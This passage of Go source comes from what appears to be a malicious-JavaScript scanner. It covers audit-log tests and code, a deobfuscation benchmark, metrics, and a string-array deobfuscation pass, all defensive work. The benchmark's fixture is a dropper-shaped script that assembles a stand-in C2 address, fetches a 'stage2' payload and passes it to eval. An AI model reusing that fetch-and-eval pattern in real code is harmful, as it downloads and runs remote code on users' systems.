	defer l.Close()

	l.Write(Record{
		Name: "a.js", SHA256: strings.Repeat("ab", 32),
		Verdict: "MALICIOUS", Malicious: true, Bytes: 120,
		DurationMS: 1.5, Tier: "pipeline", Cache: "miss",
		Model: "deadbeef", Source: "scan", TraceID: strings.Repeat("cd", 16),
		RequestID: "req-1", StagesMS: map[string]float64{"parse": 0.4, "classify": 0.2},
	})
	l.Write(Record{Kind: "reject", Reason: "queue_full", RequestID: "req-2"})
	if err := l.Sync(); err != nil {
		t.Fatal(err)
	}

	recs := readLines(t, dir)
	if len(recs) != 2 {
		t.Fatalf("got %d records, want 2", len(recs))
	}
	v := recs[0]
	if v.Kind != "verdict" || v.Verdict != "MALICIOUS" || !v.Malicious {
		t.Errorf("verdict record = %+v", v)
	}
	if v.Time.IsZero() {
		t.Error("Write did not stamp Time")
	}
	if v.SHA256 != strings.Repeat("ab", 32) || v.TraceID != strings.Repeat("cd", 16) {
		t.Errorf("provenance lost: %+v", v)
	}
	if v.StagesMS["parse"] != 0.4 {
		t.Errorf("stages = %v", v.StagesMS)
	}
	if recs[1].Kind != "reject" || recs[1].Reason != "queue_full" {
		t.Errorf("reject record = %+v", recs[1])
	}
	if got := counterValue(t, reg, RecordsMetric, obs.Labels{"kind": "verdict"}); got != 1 {
		t.Errorf("verdict records counter = %v, want 1", got)
	}
	if got := counterValue(t, reg, RecordsMetric, obs.Labels{"kind": "reject"}); got != 1 {
		t.Errorf("reject records counter = %v, want 1", got)
	}
	// Zero-valued fields stay out of the JSON so reject lines are short.
	raw, _ := os.ReadFile(filepath.Join(dir, ActiveFile))
	for _, line := range strings.Split(strings.TrimSpace(string(raw)), "\n") {
		if strings.Contains(line, `"reject"`) && strings.Contains(line, "sha256") {
			t.Errorf("reject line carries empty fields: %s", line)
		}
	}
}

func TestAuditRotationAndPrune(t *testing.T) {
	dir := t.TempDir()
	reg := obs.NewRegistry()
	// Tiny size cap: every record (~100B) past the first forces rotation.
	l, err := Open(dir, Options{Registry: reg, MaxFileBytes: 1, MaxFiles: 2})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()

	const n = 6
	for i := 0; i < n; i++ {
		l.Write(Record{Name: fmt.Sprintf("f%d.js", i), Verdict: "benign"})
		if err := l.Sync(); err != nil { // force each record down before the next rotates
			t.Fatal(err)
		}
		// Unix-nano archive names need distinct timestamps.
		time.Sleep(2 * time.Millisecond)
	}

	entries, _ := os.ReadDir(dir)
	var archives int
	for _, e := range entries {
		if e.Name() != ActiveFile {
			archives++
		}
	}
	if archives != 2 {
		t.Errorf("kept %d archives, want 2 (pruned)", archives)
	}
	if got := counterValue(t, reg, RotationsMetric, nil); got < 3 {
		t.Errorf("rotations counter = %v, want >= 3", got)
	}
	// The newest records survived pruning.
	recs := readLines(t, dir)
	if len(recs) == 0 || recs[len(recs)-1].Name != fmt.Sprintf("f%d.js", n-1) {
		t.Errorf("tail record missing: %+v", recs)
	}
}

func TestAuditAppendsAcrossReopen(t *testing.T) {
	dir := t.TempDir()
	l, err := Open(dir, Options{Registry: obs.NewRegistry()})
	if err != nil {
		t.Fatal(err)
	}
	l.Write(Record{Name: "before.js"})
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}

	l2, err := Open(dir, Options{Registry: obs.NewRegistry()})
	if err != nil {
		t.Fatal(err)
	}
	l2.Write(Record{Name: "after.js"})
	l2.Sync()
	defer l2.Close()

	recs := readLines(t, dir)
	if len(recs) != 2 || recs[0].Name != "before.js" || recs[1].Name != "after.js" {
		t.Fatalf("restart clobbered history: %+v", recs)
	}
}

func TestAuditBackpressureDropsNotBlocks(t *testing.T) {
	dir := t.TempDir()
	reg := obs.NewRegistry()
	// Stall the writer goroutine by holding the flush channel hostage is
	// not possible from outside; instead use a 1-record buffer and flood
	// faster than the writer can be scheduled deterministically: park the
	// writer with a Sync that must drain, then overfill.
	l, err := Open(dir, Options{Registry: reg, Buffer: 1})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()

	// Writes must return promptly even when flooding far past the buffer.
	done := make(chan struct{})
	go func() {
		for i := 0; i < 10000; i++ {
			l.Write(Record{Name: "flood.js"})
		}
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("Write blocked under backpressure")
	}
	l.Sync()
	written := counterValue(t, reg, RecordsMetric, obs.Labels{"kind": "verdict"})
	dropped := counterValue(t, reg, DroppedMetric, nil)
	if written+dropped != 10000 {
		t.Errorf("written %v + dropped %v != 10000", written, dropped)
	}
	if written == 0 {
		t.Error("every record dropped; writer never ran")
	}
}

func TestAuditWriteAfterCloseDrops(t *testing.T) {
	dir := t.TempDir()
	reg := obs.NewRegistry()
	l, err := Open(dir, Options{Registry: reg})
	if err != nil {
		t.Fatal(err)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	if err := l.Close(); err != nil { // idempotent
		t.Fatal(err)
	}
	l.Write(Record{Name: "late.js"})
	if got := counterValue(t, reg, DroppedMetric, nil); got != 1 {
		t.Errorf("dropped counter = %v, want 1", got)
	}
	if err := l.Sync(); err != nil { // no-op, must not hang
		t.Fatal(err)
	}
}

func TestAuditNilLogNoops(t *testing.T) {
	var l *Log
	l.Write(Record{Name: "x"})
	if err := l.Sync(); err != nil {
		t.Error(err)
	}
	if err := l.Close(); err != nil {
		t.Error(err)
	}
}

func TestAuditMetaContext(t *testing.T) {
	m := Meta{Source: "durable", Job: "j-1", Attempt: 3, RequestID: "r-9"}
	ctx := WithMeta(context.Background(), m)
	if got := MetaFromContext(ctx); got != m {
		t.Errorf("MetaFromContext = %+v, want %+v", got, m)
	}
	if got := MetaFromContext(context.Background()); got != (Meta{}) {
		t.Errorf("empty context meta = %+v", got)
	}
	if got := MetaFromContext(nil); got != (Meta{}) {
		t.Errorf("nil context meta = %+v", got)
	}
}

// TestAuditConcurrent exercises Write/Sync from many goroutines; meaningful
// under -race.
func TestAuditConcurrent(t *testing.T) {
	dir := t.TempDir()
	reg := obs.NewRegistry()
	l, err := Open(dir, Options{Registry: reg, Buffer: 4096})
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				l.Write(Record{Name: fmt.Sprintf("g%d-%d.js", g, i)})
				if i%25 == 0 {
					l.Sync()
				}
			}
		}(g)
	}
	wg.Wait()
	l.Sync()
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	written := counterValue(t, reg, RecordsMetric, obs.Labels{"kind": "verdict"})
	dropped := counterValue(t, reg, DroppedMetric, nil)
	if written+dropped != 800 {
		t.Errorf("written %v + dropped %v != 800", written, dropped)
	}
	if got := len(readLines(t, dir)); int64(got) != written {
		t.Errorf("file holds %d lines, counters say %v", got, written)
	}
}
