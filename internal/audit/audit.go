// Package audit is the verdict audit trail: a crash-safe, append-only
// NDJSON log recording one line per scan decision (and per rejected or
// evicted request), with the full provenance an operator needs to answer
// "why was this script cleared?" after the fact — content SHA-256, verdict,
// which tier produced it (cache, full pipeline, or lexical fallback), the
// model generation, queue hops, per-stage timings, and the trace ID that
// links the line to /debug/traces.
//
// The hot path never blocks on the audit log: Write puts the record on a
// bounded channel and returns; a single writer goroutine drains it through
// a buffered writer, flushing on an interval and fsyncing on a (longer)
// interval. Under backpressure — the channel full because the disk cannot
// keep up — records are dropped and counted, never queued unboundedly and
// never allowed to stall a scan. Files rotate by size: the active file is
// atomically renamed to a timestamped archive and a fresh active file
// opened, with the oldest archives pruned past a retention cap. A crash
// loses at most the unflushed buffer; every line before it stays intact,
// and a torn final line is skipped by any NDJSON reader.
package audit

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"jsrevealer/internal/rules"

	"jsrevealer/internal/obs"
)

// Metric families emitted by the audit log.
const (
	// RecordsMetric counts audit records written (accepted onto the queue
	// and persisted), by kind (verdict|reject|evicted).
	RecordsMetric = "jsrevealer_audit_records_total"
	// DroppedMetric counts records dropped under backpressure (queue full
	// or log closed) — the price of never blocking the scan hot path.
	DroppedMetric = "jsrevealer_audit_dropped_total"
	// RotationsMetric counts size-triggered file rotations.
	RotationsMetric = "jsrevealer_audit_rotations_total"
)

// Defaults for Options zero values.
const (
	// DefaultMaxFileBytes rotates the active file past 64MiB.
	DefaultMaxFileBytes = int64(64 << 20)
	// DefaultMaxFiles keeps this many rotated archives.
	DefaultMaxFiles = 8
	// DefaultBuffer is the bounded record-queue length.
	DefaultBuffer = 1024
	// DefaultFlushInterval drives the buffered writer's flush.
	DefaultFlushInterval = 200 * time.Millisecond
	// DefaultSyncInterval drives fsync — the crash-durability horizon.
	DefaultSyncInterval = time.Second
)

// ActiveFile is the name of the append target inside the audit directory;
// rotated archives are audit-<unix-nanos>.ndjson.
const ActiveFile = "audit.ndjson"

// Record is one audit line. Zero-valued fields are omitted from the JSON,
// so reject lines stay short while verdict lines carry full provenance.
type Record struct {
	// Time is when the decision was made (stamped by Write if zero).
	Time time.Time `json:"ts"`
	// Kind discriminates the line: "verdict" for scan decisions, "reject"
	// for admission rejections, "evicted" for polls of expired jobs.
	Kind string `json:"kind"`
	// Name identifies the script (batch record name or file path).
	Name string `json:"name,omitempty"`
	// SHA256 is the hex content digest — the stable handle for "was this
	// exact script seen, and what did we say about it?".
	SHA256 string `json:"sha256,omitempty"`
	// Verdict is the outcome class (benign|MALICIOUS|DEGRADED|FAILED).
	Verdict string `json:"verdict,omitempty"`
	// Malicious is the boolean decision behind the verdict.
	Malicious bool `json:"malicious,omitempty"`
	// Reason is the error-taxonomy reason for degraded/failed verdicts, or
	// the admission reason for reject lines.
	Reason string `json:"reason,omitempty"`
	// Error carries the underlying failure, if any.
	Error string `json:"error,omitempty"`
	// Bytes is the script size.
	Bytes int64 `json:"bytes,omitempty"`
	// DurationMS is the wall time spent producing the verdict.
	DurationMS float64 `json:"duration_ms,omitempty"`
	// Tier names what produced the verdict: triage | cache | pipeline |
	// fallback | none (failed with fallback disabled or broken).
	Tier string `json:"tier,omitempty"`
	// Cache is the verdict-cache outcome: hit | miss | off.
	Cache string `json:"cache,omitempty"`
	// CacheTier, on a cache hit, names the tier that originally produced
	// the cached verdict (triage | pipeline), so a served triage clear is
	// never mistaken for a served full-pipeline verdict in the trail.
	CacheTier string `json:"cache_tier,omitempty"`
	// Model is the serving model generation (hex SHA-256 of the model file).
	Model string `json:"model,omitempty"`
	// Source names the path the work arrived through
	// (detect|scan|jobs|durable).
	Source string `json:"source,omitempty"`
	// Job is the async job id, when the verdict was produced by a job.
	Job string `json:"job,omitempty"`
	// Attempt counts durable delivery attempts before this one succeeded.
	Attempt int `json:"attempt,omitempty"`
	// TraceID links the line to /debug/traces/{id} (32 hex chars).
	TraceID string `json:"trace_id,omitempty"`
	// RequestID echoes the caller's X-Request-Id (or the trace ID).
	RequestID string `json:"request_id,omitempty"`
	// StagesMS breaks the duration down by pipeline stage (span name →
	// milliseconds).
	StagesMS map[string]float64 `json:"stages_ms,omitempty"`
	// DeobPasses lists the deobfuscation passes that rewrote the script
	// before classification, in pipeline order — absent when the stage is
	// off or no pass fired. Part of verdict provenance: a flag raised on
	// deobfuscated source names the passes that exposed it.
	DeobPasses []string `json:"deob_passes,omitempty"`
	// RuleHits lists the declarative-rule matches behind the verdict, most
	// decisive first — absent when rules are off or nothing matched. With
	// tier "rules" the leading hit decided the verdict; otherwise the hits
	// annotate the model's answer.
	RuleHits []rules.Hit `json:"rule_hits,omitempty"`
}

// Options tunes a Log; zero values select the defaults above.
type Options struct {
	// MaxFileBytes rotates the active file past this size; <= 0 means
	// DefaultMaxFileBytes.
	MaxFileBytes int64
	// MaxFiles caps rotated archives kept on disk; <= 0 means
	// DefaultMaxFiles.
	MaxFiles int
	// Buffer bounds the record queue; <= 0 means DefaultBuffer. When full,
	// Write drops (and counts) instead of blocking.
	Buffer int
	// FlushInterval drives buffered-writer flushes; <= 0 means
	// DefaultFlushInterval.
	FlushInterval time.Duration
	// SyncInterval drives fsync; <= 0 means DefaultSyncInterval. A crash
	// loses at most this much of the tail (plus the unflushed buffer).
	SyncInterval time.Duration
	// Registry receives the jsrevealer_audit_* metrics; nil means
	// obs.Default().
	Registry *obs.Registry

	now func() time.Time // test clock; nil means time.Now
}

func (o Options) withDefaults() Options {
	if o.MaxFileBytes <= 0 {
		o.MaxFileBytes = DefaultMaxFileBytes
	}
	if o.MaxFiles <= 0 {
		o.MaxFiles = DefaultMaxFiles
	}
	if o.Buffer <= 0 {
		o.Buffer = DefaultBuffer
	}
	if o.FlushInterval <= 0 {
		o.FlushInterval = DefaultFlushInterval
	}
	if o.SyncInterval <= 0 {
		o.SyncInterval = DefaultSyncInterval
	}
	if o.Registry == nil {
		o.Registry = obs.Default()
	}
	if o.now == nil {
		o.now = time.Now
	}
	return o
}

// Log is the audit writer. All methods are safe for concurrent use; Write
// never blocks. A nil *Log is a no-op sink, so call sites need no guards.
type Log struct {
	dir  string
	opts Options

	records   map[string]*obs.Counter
	dropped   *obs.Counter
	rotations *obs.Counter

	ch      chan Record
	flushCh chan chan error
	closeCh chan struct{}
	doneCh  chan struct{}

	// Writer-goroutine state; never touched outside it after Open.
	f    *os.File
	bw   *bufio.Writer
	size int64
}

// recordKinds is the closed label set of RecordsMetric.
var recordKinds = []string{"verdict", "reject", "evicted"}

// Open opens (creating if needed) the audit log in dir and starts its
// writer goroutine. An existing active file is appended to, so restarts
// never clobber history.
func Open(dir string, opts Options) (*Log, error) {
	opts = opts.withDefaults()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("audit: create dir: %w", err)
	}
	f, err := os.OpenFile(filepath.Join(dir, ActiveFile),
		os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, fmt.Errorf("audit: open: %w", err)
	}
	st, err := f.Stat()
	if err != nil {
		f.Close()
		return nil, fmt.Errorf("audit: stat: %w", err)
	}
	l := &Log{
		dir:       dir,
		opts:      opts,
		records:   make(map[string]*obs.Counter, len(recordKinds)),
		dropped:   opts.Registry.Counter(DroppedMetric, "Audit records dropped under backpressure.", nil),
		rotations: opts.Registry.Counter(RotationsMetric, "Audit file rotations by size.", nil),
		ch:        make(chan Record, opts.Buffer),
		flushCh:   make(chan chan error),
		closeCh:   make(chan struct{}),
		doneCh:    make(chan struct{}),
		f:         f,
		bw:        bufio.NewWriterSize(f, 64<<10),
		size:      st.Size(),
	}
	for _, k := range recordKinds {
		l.records[k] = opts.Registry.Counter(RecordsMetric,
			"Audit records written, by kind.", obs.Labels{"kind": k})
	}
	go l.run()
	return l, nil
}

// Write enqueues one record for the writer goroutine, stamping Time and
// defaulting Kind to "verdict". It never blocks: when the queue is full or
// the log is closed the record is dropped and counted. Write on a nil log
// is a no-op.
func (l *Log) Write(rec Record) {
	if l == nil {
		return
	}
	if rec.Time.IsZero() {
		rec.Time = l.opts.now()
	}
	if rec.Kind == "" {
		rec.Kind = "verdict"
	}
	select {
	case <-l.closeCh:
		l.dropped.Inc()
		return
	default:
	}
	select {
	case l.ch <- rec:
	default:
		l.dropped.Inc()
	}
}

// Sync drains everything queued so far, flushes the buffer, and fsyncs —
// the synchronization point tests and graceful shutdown use. Sync on a nil
// or closed log is a no-op.
func (l *Log) Sync() error {
	if l == nil {
		return nil
	}
	reply := make(chan error, 1)
	select {
	case l.flushCh <- reply:
		return <-reply
	case <-l.doneCh:
		return nil
	}
}

// Close drains the queue, flushes, fsyncs, and closes the file. Records
// written after Close are dropped (and counted). Close on a nil log is a
// no-op.
func (l *Log) Close() error {
	if l == nil {
		return nil
	}
	select {
	case <-l.closeCh:
		<-l.doneCh
		return nil
	default:
	}
	close(l.closeCh)
	<-l.doneCh
	return nil
}

// run is the writer goroutine: drain records, flush on FlushInterval,
// fsync on SyncInterval, rotate by size, stop on Close.
func (l *Log) run() {
	defer close(l.doneCh)
	flush := time.NewTicker(l.opts.FlushInterval)
	defer flush.Stop()
	sync := time.NewTicker(l.opts.SyncInterval)
	defer sync.Stop()
	for {
		select {
		case rec := <-l.ch:
			l.emit(rec)
		case <-flush.C:
			l.bw.Flush()
		case <-sync.C:
			l.bw.Flush()
			l.f.Sync()
		case reply := <-l.flushCh:
			l.drain()
			l.bw.Flush()
			reply <- l.f.Sync()
		case <-l.closeCh:
			l.drain()
			l.bw.Flush()
			l.f.Sync()
			l.f.Close()
			return
		}
	}
}

// drain consumes every record currently queued.
func (l *Log) drain() {
	for {
		select {
		case rec := <-l.ch:
			l.emit(rec)
		default:
			return
		}
	}
}

// emit writes one record as an NDJSON line, rotating first when the active
// file is already past the size threshold.
func (l *Log) emit(rec Record) {
	if l.size >= l.opts.MaxFileBytes {
		l.rotate()
	}
	line, err := json.Marshal(rec)
	if err != nil {
		// Record contains only marshalable fields; unreachable short of
		// memory corruption — but an audit log must never panic the server.
		l.dropped.Inc()
		return
	}
	line = append(line, '\n')
	if _, err := l.bw.Write(line); err != nil {
		l.dropped.Inc()
		return
	}
	l.size += int64(len(line))
	if c, ok := l.records[rec.Kind]; ok {
		c.Inc()
	} else {
		l.records["verdict"].Inc()
	}
}

// rotate archives the active file under a timestamped name (an atomic
// rename — a crash leaves either the old active file or a complete
// archive, never a half-copied one), opens a fresh active file, and prunes
// archives past MaxFiles. On any failure the current file keeps taking
// appends: a full disk must degrade the audit trail, not sever it.
func (l *Log) rotate() {
	l.bw.Flush()
	l.f.Sync()
	archived := filepath.Join(l.dir,
		fmt.Sprintf("audit-%d.ndjson", l.opts.now().UnixNano()))
	if err := os.Rename(filepath.Join(l.dir, ActiveFile), archived); err != nil {
		return
	}
	nf, err := os.OpenFile(filepath.Join(l.dir, ActiveFile),
		os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		// The old handle still points at the archived inode; keep writing
		// there rather than losing records.
		return
	}
	l.f.Close()
	l.f = nf
	l.bw = bufio.NewWriterSize(nf, 64<<10)
	l.size = 0
	l.rotations.Inc()
	l.prune()
}

// prune deletes the oldest archives past MaxFiles.
func (l *Log) prune() {
	entries, err := os.ReadDir(l.dir)
	if err != nil {
		return
	}
	var archives []string
	for _, e := range entries {
		name := e.Name()
		if strings.HasPrefix(name, "audit-") && strings.HasSuffix(name, ".ndjson") {
			archives = append(archives, name)
		}
	}
	sort.Strings(archives) // unix-nano names sort chronologically at equal width
	for len(archives) > l.opts.MaxFiles {
		os.Remove(filepath.Join(l.dir, archives[0]))
		archives = archives[1:]
	}
}

// Meta is the per-request provenance the serving layer attaches to a
// context so the scan engine's audit records carry it: which endpoint the
// work came through, the job id and delivery attempt for async work, and
// the request ID error responses echo.
type Meta struct {
	// Source names the ingress path (detect|scan|jobs|durable).
	Source string
	// Job is the async job id, empty for synchronous requests.
	Job string
	// Attempt is the durable delivery attempt count.
	Attempt int
	// RequestID is the caller's X-Request-Id, or the trace ID.
	RequestID string
}

type metaCtxKey struct{}

// WithMeta attaches per-request audit provenance to ctx.
func WithMeta(ctx context.Context, m Meta) context.Context {
	if ctx == nil {
		ctx = context.Background()
	}
	return context.WithValue(ctx, metaCtxKey{}, m)
}

// MetaFromContext returns the provenance carried by ctx, or the zero Meta.
func MetaFromContext(ctx context.Context) Meta {
	if ctx == nil {
		return Meta{}
	}
	m, _ := ctx.Value(metaCtxKey{}).(Meta)
	return m
}
