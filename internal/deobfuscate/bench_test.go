package deobfuscate

import (
	"context"
	"strings"
	"testing"

	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obfuscate"
)

// benchSample is a small dropper-shaped script: string building, an eval
// chain, and branching — the constructs every pass has an opinion about.
var benchSample = strings.Repeat(`var host = "ht" + "tp://" + "c2.example" + ".com";
var key = String.fromCharCode(107, 101, 121);
function fetchPayload(u) {
  var x = new XMLHttpRequest();
  x.open("G" + "ET", u, false);
  x.send(null);
  return x.responseText;
}
if (!![]) {
  var body = fetchPayload(host + "/stage2?k=" + key);
  eval("handle(body);");
} else {
  cleanup();
}
`, 8)

// BenchmarkDeobfuscate measures Normalize over the plain sample (the
// every-pass-fires case) and over each paper obfuscator's output (the
// production-shaped inputs the scan engine sees).
func BenchmarkDeobfuscate(b *testing.B) {
	names := append([]string{"plain"}, obfuscate.PaperOrder()...)
	variants := map[string]string{"plain": benchSample}
	reg := obfuscate.Registry(7)
	for _, name := range obfuscate.PaperOrder() {
		out, err := reg[name].Obfuscate(benchSample)
		if err != nil {
			b.Fatalf("%s: %v", name, err)
		}
		variants[name] = out
	}
	p := NewPipeline(Config{})
	ctx := context.Background()
	for _, name := range names {
		src := variants[name]
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(src)))
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				if _, _, err := p.Normalize(ctx, src, parser.Limits{}); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
