package deobfuscate

import (
	"time"

	"jsrevealer/internal/obs"
)

// Metric families emitted by the pipeline. They land in the registry
// carried by the run's context, the same registry `jsrevealer serve`
// exposes on /metrics.
const (
	// PassChangesMetric counts individual rewrites by pass.
	PassChangesMetric = "jsrevealer_deob_pass_changes_total"
	// PassDurationMetric is the per-pass-invocation wall-time histogram.
	PassDurationMetric = "jsrevealer_deob_pass_duration_seconds"
	// RunsMetric counts pipeline runs by outcome
	// (changed|clean|truncated|error).
	RunsMetric = "jsrevealer_deob_runs_total"
)

const (
	changesHelp  = "Deobfuscation rewrites applied, by pass."
	durationHelp = "Per-invocation deobfuscation pass wall time in seconds."
	runsHelp     = "Deobfuscation pipeline runs by outcome."
)

// runResults is the closed label set of RunsMetric.
var runResults = []string{"changed", "clean", "truncated", "error"}

// RegisterMetrics pre-creates every deobfuscation metric series in reg
// (all default pass names and run outcomes, zero-valued), so an exposition
// endpoint shows the full surface before the first normalization.
func RegisterMetrics(reg *obs.Registry) {
	for _, name := range PassNames() {
		reg.Counter(PassChangesMetric, changesHelp, obs.Labels{"pass": name})
		reg.Histogram(PassDurationMetric, durationHelp,
			obs.DefDurationBuckets, obs.Labels{"pass": name})
	}
	for _, result := range runResults {
		reg.Counter(RunsMetric, runsHelp, obs.Labels{"result": result})
	}
}

// instruments caches one run's metric series so the fixpoint loop pays
// pointer derefs, not registry lookups.
type instruments struct {
	reg     *obs.Registry
	changes map[string]*obs.Counter
	durs    map[string]*obs.Histogram
}

func newInstruments(reg *obs.Registry, passes []Pass) *instruments {
	ins := &instruments{
		reg:     reg,
		changes: make(map[string]*obs.Counter, len(passes)),
		durs:    make(map[string]*obs.Histogram, len(passes)),
	}
	for _, p := range passes {
		ins.changes[p.Name()] = reg.Counter(PassChangesMetric, changesHelp,
			obs.Labels{"pass": p.Name()})
		ins.durs[p.Name()] = reg.Histogram(PassDurationMetric, durationHelp,
			obs.DefDurationBuckets, obs.Labels{"pass": p.Name()})
	}
	return ins
}

func (ins *instruments) observe(pass string, d time.Duration) {
	if h, ok := ins.durs[pass]; ok {
		h.ObserveDuration(d)
	}
}

// finish records the run outcome and flushes per-pass change counts.
func (ins *instruments) finish(rep *Report) {
	for _, s := range rep.Stats {
		if s.Changes > 0 {
			if c, ok := ins.changes[s.Name]; ok {
				c.Add(int64(s.Changes))
			}
		}
	}
	result := "clean"
	switch {
	case rep.Truncated != "":
		result = "truncated"
	case rep.Total() > 0:
		result = "changed"
	}
	ins.reg.Counter(RunsMetric, runsHelp, obs.Labels{"result": result}).Inc()
}
