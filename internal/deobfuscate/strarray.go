package deobfuscate

import (
	"math"

	"jsrevealer/internal/js/ast"
)

// stringArrayPass undoes the hoisted-literal-pool transform: a top-level
// array of literals plus index reads, optionally routed through a decoder
// function — the javascript-obfuscator / jfogs family:
//
//	var A = ["aGk=", ...];                 // pool (often base64)
//	function D(i) { return atob(A[(i + 3) % A.length]); }
//	... D(7) ... A[2] ...
//
// Pool accesses with literal indexes are replaced by the pooled literal
// (decoded through the rotation offset, modulo, and atob when the access
// goes through a recognized decoder), and the pool/decoder declarations
// are dropped once nothing references them. A pool is only trusted when
// its binding is unique and unwritten and every reference is a plain
// indexed read — any aliasing, mutation, or unrecognized use disqualifies
// it.
type stringArrayPass struct{}

// Name implements Pass.
func (stringArrayPass) Name() string { return "strarray" }

type literalPool struct {
	decl  *ast.VariableDeclarator
	elems []*ast.Literal
}

type poolDecoder struct {
	fn   *ast.FunctionDeclaration
	pool string
	rot  float64
	mod  bool
	atob bool
}

// Run implements Pass.
func (stringArrayPass) Run(prog *ast.Program, rep *Report) bool {
	if hasWith(prog) {
		return false
	}
	bindings := bindingCounts(prog)
	writes := writeCounts(prog)

	pools := findPools(prog, bindings, writes)
	if len(pools) == 0 {
		return false
	}
	decoders := findDecoders(prog, pools, bindings, writes)
	validatePoolRefs(prog, pools)

	// Drop decoders whose pool fell to validation.
	for name, d := range decoders {
		if _, ok := pools[d.pool]; !ok {
			delete(decoders, name)
		}
	}
	if len(pools) == 0 {
		return false
	}

	n := 0
	inlinedPool := make(map[string]int)
	inlinedDecoder := make(map[string]int)
	ast.RewriteExpressions(prog, func(e ast.Expression) ast.Expression {
		switch x := e.(type) {
		case *ast.MemberExpression:
			// Direct pool read A[3]: a plain array index, no rotation.
			if !x.Computed {
				return e
			}
			id, ok := x.Object.(*ast.Identifier)
			if !ok {
				return e
			}
			p, ok := pools[id.Name]
			if !ok {
				return e
			}
			idx, ok := intIndex(x.Property)
			if !ok || idx < 0 || idx >= len(p.elems) {
				return e
			}
			n++
			inlinedPool[id.Name]++
			return cloneLiteral(p.elems[idx])
		case *ast.CallExpression:
			id, ok := x.Callee.(*ast.Identifier)
			if !ok || len(x.Arguments) != 1 {
				return e
			}
			d, ok := decoders[id.Name]
			if !ok {
				return e
			}
			arg, ok := intIndex(x.Arguments[0])
			if !ok {
				return e
			}
			out, ok := decodePoolRead(pools[d.pool], d, arg)
			if !ok {
				return e
			}
			n++
			inlinedDecoder[id.Name]++
			return out
		}
		return e
	})

	// Remove decoders first — their bodies hold the last pool references —
	// then pools. Gate on having inlined something so the pass never fires
	// on merely-dead benign declarations.
	deadFns := make(map[ast.Statement]bool)
	for name, d := range decoders {
		if inlinedDecoder[name] > 0 && refCount(prog, name) == 0 {
			deadFns[d.fn] = true
			inlinedPool[d.pool]++ // pool lost a referencing decoder
		}
	}
	n += removeDecls(prog, nil, deadFns)
	deadVars := make(map[*ast.VariableDeclarator]bool)
	for name, p := range pools {
		if inlinedPool[name] > 0 && refCount(prog, name) == 0 {
			deadVars[p.decl] = true
		}
	}
	n += removeDecls(prog, deadVars, nil)
	rep.Note("strarray", n)
	return n > 0
}

// findPools collects top-level all-literal array declarations whose
// binding is unique and never written.
func findPools(prog *ast.Program, bindings, writes map[string]int) map[string]*literalPool {
	pools := make(map[string]*literalPool)
	for _, s := range prog.Body {
		decl, ok := s.(*ast.VariableDeclaration)
		if !ok {
			continue
		}
		for _, d := range decl.Declarations {
			arr, ok := d.Init.(*ast.ArrayExpression)
			if !ok || len(arr.Elements) == 0 {
				continue
			}
			if bindings[d.ID.Name] != 1 || writes[d.ID.Name] != 0 {
				continue
			}
			elems := make([]*ast.Literal, len(arr.Elements))
			all := true
			for i, el := range arr.Elements {
				if elems[i] = litOf(el); elems[i] == nil {
					all = false
					break
				}
			}
			if all {
				pools[d.ID.Name] = &literalPool{decl: d, elems: elems}
			}
		}
	}
	return pools
}

// findDecoders matches top-level one-parameter functions whose whole body
// is `return [atob(] POOL[(param [+|- rot]) [% POOL.length]] [)]`.
func findDecoders(prog *ast.Program, pools map[string]*literalPool, bindings, writes map[string]int) map[string]*poolDecoder {
	decoders := make(map[string]*poolDecoder)
	for _, s := range prog.Body {
		fn, ok := s.(*ast.FunctionDeclaration)
		if !ok {
			continue
		}
		if bindings[fn.ID.Name] != 1 || writes[fn.ID.Name] != 0 {
			continue
		}
		if d := matchDecoder(fn, pools); d != nil {
			decoders[fn.ID.Name] = d
		}
	}
	return decoders
}

func matchDecoder(fn *ast.FunctionDeclaration, pools map[string]*literalPool) *poolDecoder {
	if len(fn.Params) != 1 || len(fn.Body.Body) != 1 {
		return nil
	}
	ret, ok := fn.Body.Body[0].(*ast.ReturnStatement)
	if !ok || ret.Argument == nil {
		return nil
	}
	expr := ret.Argument
	d := &poolDecoder{fn: fn}
	if call, ok := expr.(*ast.CallExpression); ok {
		id, ok := call.Callee.(*ast.Identifier)
		if !ok || id.Name != "atob" || len(call.Arguments) != 1 {
			return nil
		}
		d.atob = true
		expr = call.Arguments[0]
	}
	mem, ok := expr.(*ast.MemberExpression)
	if !ok || !mem.Computed {
		return nil
	}
	arrID, ok := mem.Object.(*ast.Identifier)
	if !ok {
		return nil
	}
	if _, ok := pools[arrID.Name]; !ok {
		return nil
	}
	d.pool = arrID.Name

	idx := mem.Property
	if bin, ok := idx.(*ast.BinaryExpression); ok && bin.Operator == "%" && isLengthOf(bin.Right, arrID.Name) {
		d.mod = true
		idx = bin.Left
	}
	param := fn.Params[0].Name
	switch x := idx.(type) {
	case *ast.Identifier:
		if x.Name != param {
			return nil
		}
	case *ast.BinaryExpression:
		if x.Operator != "+" && x.Operator != "-" {
			return nil
		}
		var rotExpr ast.Expression
		if id, ok := x.Left.(*ast.Identifier); ok && id.Name == param {
			rotExpr = x.Right
		} else if id, ok := x.Right.(*ast.Identifier); ok && id.Name == param && x.Operator == "+" {
			rotExpr = x.Left
		} else {
			return nil
		}
		rot, ok := numOperand(rotExpr)
		if !ok || rot != math.Trunc(rot) {
			return nil
		}
		if x.Operator == "-" {
			rot = -rot
		}
		d.rot = rot
	default:
		return nil
	}
	return d
}

func isLengthOf(e ast.Expression, name string) bool {
	mem, ok := e.(*ast.MemberExpression)
	if !ok || mem.Computed {
		return false
	}
